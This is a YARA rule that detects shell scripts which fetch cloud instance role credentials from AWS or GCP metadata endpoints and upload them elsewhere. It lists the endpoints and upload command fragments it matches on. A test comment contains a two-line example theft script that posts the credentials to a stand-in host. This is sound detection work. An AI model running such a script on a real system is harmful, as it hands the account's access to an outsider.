rule cloud_role_theft_script : script
{
    meta:
        title = "take the cloud credentials of the machine and send them away"
        explanation = "A script asks the metadata service of the cloud for the credentials of the machine's role and passes them on. Cloud tools use them on the spot and send them nowhere. Whoever receives them acts in your account."
        class = "malware"
        severity = "critical"
        confidence = "medium"
        attack = "T1552.005"
        reference = "https://attack.mitre.org/techniques/T1552/005/"
    strings:
        $role1 = "169.254.169.254/latest/meta-data/iam/security-credentials"
        $role2 = "169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
        $role3 = "computeMetadata/v1/instance/service-accounts/default/token"
        $send1 = "curl -F"
        $send2 = "--data-binary @"
        $send3 = "--post-file"
        $send4 = "| nc "
        $send5 = "--upload-file"
        $send6 = "curl -T"
        $send7 = "-F \"userfile=@"
    condition:
        filesize < 64KB and uint16(0) == 0x2123 and 1 of ($role*) and 1 of ($send*)
}

/* example: fires on a thief
    FILE /g.sh 0755
        #!/bin/sh
        curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role > /tmp/a
        curl -F "userfile=@/tmp/a" http://192.0.2.5/up.php
*/
/* example: quiet on a script that uses the role
    FILE /s3.sh 0755
        #!/bin/sh
        ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
        aws s3 cp s3://bucket/config.json /etc/app/
*/
